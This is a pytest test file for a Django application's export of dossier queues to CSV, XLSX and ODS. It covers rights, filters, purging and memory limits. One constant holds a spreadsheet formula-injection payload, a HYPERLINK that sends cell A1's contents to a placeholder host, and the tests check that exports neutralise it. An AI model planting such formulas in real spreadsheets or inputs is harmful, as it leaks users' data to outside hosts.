from __future__ import annotations

import csv
import io
import os
import sys
import time
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import storages
from django.db.models.query import QuerySet
from django.utils import timezone
from odf.opendocument import load as load_ods
from odf.table import Table, TableCell, TableRow
from odf.text import P

from conftest import SERVICE_1
from guichet.catalog.models import Procedure
from guichet.dossiers.models import Dossier
from guichet.dossiers.models import DossierStatus as S
from guichet.governance.models import AuditEntry
from guichet.organisation.models import StaffRole
from guichet.workflow import exports
from guichet.workflow.models import Export, ExportStatus
from guichet.workflow.queries import QueueFilters, filters_from_params
from guichet.workflow.services import TransitionError

pytestmark = pytest.mark.django_db

HEADER = [
    "Référence",
    "Démarche",
    "État",
    "Déposé le",
    "Échéance",
    "En retard",
    "Attribué à",
    "Demandeur",
]
INJECTION = '=HYPERLINK("http://exemple.invalid/?v="&A1,"Cliquez")'
SUBMITTED_AT = datetime(2026, 11, 2, 8, 30, tzinfo=UTC)
LOCAL_SUBMITTED_AT = SUBMITTED_AT.replace(tzinfo=None)
"""As spreadsheets hold it: TIME_ZONE is UTC."""


def bulk_dossiers(applicant, count, *, service_id=SERVICE_1, status=S.SUBMITTED, **fields):
    """`count` dossiers of the birth-extract procedure in one INSERT, due a day apart."""
    procedure = Procedure.objects.get(pk="ml-extrait-acte-naissance")
    start = Dossier.objects.count()
    dossiers = [
        Dossier(
            reference=f"ML-TEST-{start + i:06d}",
            procedure=procedure,
            version=procedure.current_version,
            applicant=applicant,
            status=status,
            service_id=service_id,
            submitted_at=SUBMITTED_AT,
            due_at=SUBMITTED_AT + timedelta(days=30 + i % 300),
            **{"applicant_name": f"Traoré Awa {i}", "search_text": f"traore awa {i}", **fields},
        )
        for i in range(count)
    ]
    return Dossier.objects.bulk_create(dossiers, batch_size=1000)


def requested(supervisor, fmt, capture, filters=None):
    from guichet.organisation.models import Service

    with capture(execute=True):
        export = exports.request_export(
            service=Service.objects.get(pk=SERVICE_1),
            filters=filters or QueueFilters(),
            format=fmt,
            actor=supervisor,
        )
    export.refresh_from_db()
    return export


def read_rows(export) -> list[list[str]]:
    """Every row of the file as text, whatever the format."""
    with export.file.open("rb") as f:
        data = f.read()
    if export.format == "csv":
        assert data.startswith(b"\xef\xbb\xbf")
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    if export.format == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        rows = []
        for row in book.active.iter_rows(values_only=True):
            rows.append(
                [
                    f"{v:%Y-%m-%d %H:%M}" if isinstance(v, datetime) else ("" if v is None else v)
                    for v in row
                ]
            )
        return rows
    doc = load_ods(io.BytesIO(data))
    table = doc.spreadsheet.getElementsByType(Table)[0]
    return [
        [
            "".join(str(p) for p in cell.getElementsByType(P))
            for cell in row.getElementsByType(TableCell)
        ]
        for row in table.getElementsByType(TableRow)
    ]


def stored_export_files() -> set[str]:
    root = Path(storages["attachments"].path("exports"))
    return {str(p) for p in root.rglob("*") if p.is_file()} if root.exists() else set()


def test_saved_filters_read_back_the_same():
    filters = QueueFilters(
        status="all", procedure="ml-passeport", overdue=True, assigned="me", q="awa", sort="recent"
    )
    assert filters_from_params(filters.describe()) == filters
    assert filters_from_params({"statut": "draft", "tri": "x", "attribution": "u"}) == (
        QueueFilters()
    )


# --- Requests and rights ----------------------------------------------------------------------


def test_an_agent_cannot_request_an_export(demo_catalog, staff_user):
    from guichet.organisation.models import Service

    with pytest.raises(TransitionError, match="superviseur"):
        exports.request_export(
            service=Service.objects.get(pk=SERVICE_1),
            filters=QueueFilters(),
            format="csv",
            actor=staff_user,
        )
    assert not Export.objects.exists()
    assert not AuditEntry.objects.filter(action="export.requested").exists()


def test_an_unknown_format_is_refused(demo_catalog, supervisor):
    from guichet.organisation.models import Service

    with pytest.raises(TransitionError, match="format"):
        exports.request_export(
            service=Service.objects.get(pk=SERVICE_1),
            filters=QueueFilters(),
            format="pdf",
            actor=supervisor,
        )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_each_format_holds_the_queue(
    fmt, demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks
):
    supervisor.display_name = "Diarra Fanta"
    supervisor.save(update_fields=["display_name"])
    late = SUBMITTED_AT - timedelta(days=60)
    bulk_dossiers(citizen, 2)
    bulk_dossiers(citizen, 1, status=S.IN_REVIEW, assigned_to=supervisor, applicant_name=INJECTION)
    Dossier.objects.filter(status=S.IN_REVIEW).update(due_at=late)
    bulk_dossiers(citizen, 1, status=S.ACCEPTED)  # decided: not in the open queue
    bulk_dossiers(citizen, 1, service_id="ml-ec-bamako-c4")  # another service

    export = requested(supervisor, fmt, django_capture_on_commit_callbacks)

    assert (export.status, export.row_count, export.error) == (ExportStatus.READY, 3, "")
    # Named after the row (the storage may add a suffix if a test run reused the number).
    assert export.file.name.startswith(f"exports/{export.created_at:%Y/%m}/{export.pk}")
    assert export.file.name.endswith(f".{fmt}")
    rows = read_rows(export)
    assert rows[0] == HEADER
    assert len(rows) == 4
    by_name = {row[7]: row for row in rows[1:]}
    neutralised = "'" + INJECTION
    assert by_name[neutralised] == [
        by_name[neutralised][0],
        "Extrait d'acte de naissance (volet III) et copies",
        "En cours d'instruction",
        "2026-11-02 08:30",
        "2026-09-03 08:30",
        "oui",
        "Diarra Fanta",
        neutralised,
    ]
    assert by_name["Traoré Awa 0"][2:7] == [
        "Déposé",
        "2026-11-02 08:30",
        "2026-12-02 08:30",
        "non",
        "",
    ]
    # Sorted by deadline, the overdue one first, as the queue shows it.
    assert rows[1][7] == neutralised
    entry = AuditEntry.objects.get(action="export.requested")
    assert (entry.actor, entry.object_id, entry.data["format"]) == (supervisor, SERVICE_1, fmt)


def test_xlsx_dates_are_dates_and_no_text_is_a_formula(
    demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks
):
    bulk_dossiers(citizen, 1, applicant_name=INJECTION)
    export = requested(supervisor, "xlsx", django_capture_on_commit_callbacks)
    with export.file.open("rb") as f:
        sheet = openpyxl.load_workbook(f).active
    assert sheet["D2"].value == LOCAL_SUBMITTED_AT
    assert sheet["D2"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["H2"].data_type == "s"
    assert sheet["H2"].value == "'" + INJECTION


def test_the_saved_filters_choose_the_rows(
    demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks
):
    bulk_dossiers(citizen, 2)
    bulk_dossiers(citizen, 1, status=S.IN_REVIEW, assigned_to=supervisor)
    bulk_dossiers(citizen, 1, status=S.REJECTED)
    mine = requested(
        supervisor, "csv", django_capture_on_commit_callbacks, QueueFilters(assigned="me")
    )
    everything = requested(
        supervisor, "csv", django_capture_on_commit_callbacks, QueueFilters(status="all")
    )
    assert (mine.row_count, everything.row_count) == (1, 4)
    assert mine.filters == {"statut": "open", "attribution": "me", "tri": "due"}
    assert len(read_rows(everything)) == 5


def test_a_retried_task_builds_nothing_again(
    demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks
):
    bulk_dossiers(citizen, 1)
    export = requested(supervisor, "csv", django_capture_on_commit_callbacks)
    name = export.file.name
    assert exports.build_export(export.pk) == ExportStatus.READY
    export.refresh_from_db()
    assert export.file.name == name
    assert exports.build_export(export.pk + 1) == "missing"  # purged before its turn


def test_a_requester_no_longer_supervisor_gets_no_file(demo_catalog, supervisor):
    from guichet.organisation.models import Service

    export = exports.request_export(  # not built: the commit never comes in this test
        service=Service.objects.get(pk=SERVICE_1),
        filters=QueueFilters(),
        format="csv",
        actor=supervisor,
    )
    StaffRole.objects.filter(user=supervisor).delete()
    assert exports.build_export(export.pk) == ExportStatus.FAILED
    export.refresh_from_db()
    assert not export.file
    assert "plus superviseur" in export.error


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_a_failed_build_leaves_no_half_file(
    fmt, demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks, monkeypatch
):
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    bulk_dossiers(citizen, 10)
    real_rows = exports.export_rows

    def broken_rows(export):
        rows = real_rows(export)
        yield next(rows)
        raise RuntimeError("database went away")

    monkeypatch.setattr(exports, "export_rows", broken_rows)
    before = stored_export_files()
    openpyxl_files = list(ALL_TEMP_FILES)
    export = requested(supervisor, fmt, django_capture_on_commit_callbacks)
    assert export.status == ExportStatus.FAILED
    assert export.error.startswith("L'export n'a pas pu être préparé")
    assert not export.file
    assert export.finished_at is not None
    assert stored_export_files() == before
    left = [p for p in ALL_TEMP_FILES if p not in openpyxl_files and os.path.exists(p)]
    assert left == []


def test_too_many_in_progress_is_refused(demo_catalog, supervisor):
    from guichet.organisation.models import Service

    service = Service.objects.get(pk=SERVICE_1)
    for _ in range(exports.MAX_IN_PROGRESS):  # never built: no commit in this test
        exports.request_export(
            service=service, filters=QueueFilters(), format="csv", actor=supervisor
        )
    with pytest.raises(TransitionError, match="en préparation"):
        exports.request_export(
            service=service, filters=QueueFilters(), format="csv", actor=supervisor
        )


# --- Keeping seven days -----------------------------------------------------------------------


def test_old_exports_are_purged_with_their_files(demo_catalog, supervisor):
    from guichet.organisation.models import Service

    service = Service.objects.get(pk=SERVICE_1)
    old, recent = (
        Export.objects.create(
            requested_by=supervisor, service=service, format="csv", status=ExportStatus.READY
        )
        for _ in range(2)
    )
    for export in (old, recent):
        export.file.save("x.csv", ContentFile(b"a;b\r\n"))
    Export.objects.filter(pk=old.pk).update(created_at=timezone.now() - timedelta(days=7, hours=1))
    storage = storages["attachments"]
    assert storage.exists(old.file.name)

    assert exports.purge_old_exports() == 1

    assert list(Export.objects.all()) == [recent]
    assert not storage.exists(old.file.name)
    assert storage.exists(recent.file.name)
    assert exports.purge_old_exports(now=timezone.now() + timedelta(days=8)) == 1
    assert not storage.exists(recent.file.name)


# --- Size -------------------------------------------------------------------------------------


def test_the_builder_reads_the_queue_in_chunks(
    demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks, monkeypatch
):
    bulk_dossiers(citizen, 3)
    chunk_sizes = []
    real_iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return real_iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    export = requested(supervisor, "ods", django_capture_on_commit_callbacks)
    assert export.row_count == 3
    assert exports.CHUNK_SIZE in chunk_sizes


def _synthetic(count):
    moment = LOCAL_SUBMITTED_AT
    for i in range(count):
        yield (
            f"ML-TEST-{i:06d}",
            "Extrait d'acte de naissance (volet III) et copies",
            "Déposé",
            moment,
            moment,
            "non",
            "",
            f"Traoré Awa {i}",
        )


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_writers_memory_stays_small(fmt, tmp_path):
    """4,000 rows (32,000 cells) built in under 2 MB of Python memory: rows are streamed,
    not held (openpyxl's normal mode or an odfpy tree would take several times that)."""
    write = exports.WRITERS[fmt]
    with open(tmp_path / f"warm.{fmt}", "wb") as out:
        write(out, _synthetic(10))  # imports and caches, not counted
    with open(tmp_path / f"big.{fmt}", "wb") as out:
        tracemalloc.start()
        try:
            assert write(out, _synthetic(4_000)) == 4_000
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert peak < 2 * 1024 * 1024, peak


def test_ods_rows_are_what_odfpy_writes():
    row = ("ML-1", '\'=A&B <b>"x"', None, LOCAL_SUBMITTED_AT, None, "non", "", "Traoré")
    element = TableRow()
    for value in row:
        element.addElement(exports._ods_cell(value))
    xml = io.StringIO()
    element.toXml(1, xml)

    def canonical(fragment):
        namespaces = (
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        )
        return ElementTree.canonicalize(f"<root {namespaces}>{fragment}</root>")

    assert canonical(exports._ods_row_xml(row).decode()) == canonical(xml.getvalue())


def test_five_thousand_rows_in_each_format(
    demo_catalog, supervisor, citizen, django_capture_on_commit_callbacks, capsys
):
    bulk_dossiers(citizen, 5_000)
    timings = {}
    for fmt in ("csv", "xlsx", "ods"):
        started = time.perf_counter()
        export = requested(supervisor, fmt, django_capture_on_commit_callbacks)
        timings[fmt] = time.perf_counter() - started
        assert (export.status, export.row_count) == (ExportStatus.READY, 5_000)
        assert export.file.size > 20_000
    rows = read_rows(export)  # the ODS one, the slowest to read back
    assert len(rows) == 5_001
    assert rows[-1][0].startswith("ML-TEST-")
    with capsys.disabled():  # shown with -s or not: the figures for the record
        sys.stdout.write(" ".join(f"{fmt}={s:.2f}s" for fmt, s in timings.items()) + " ")
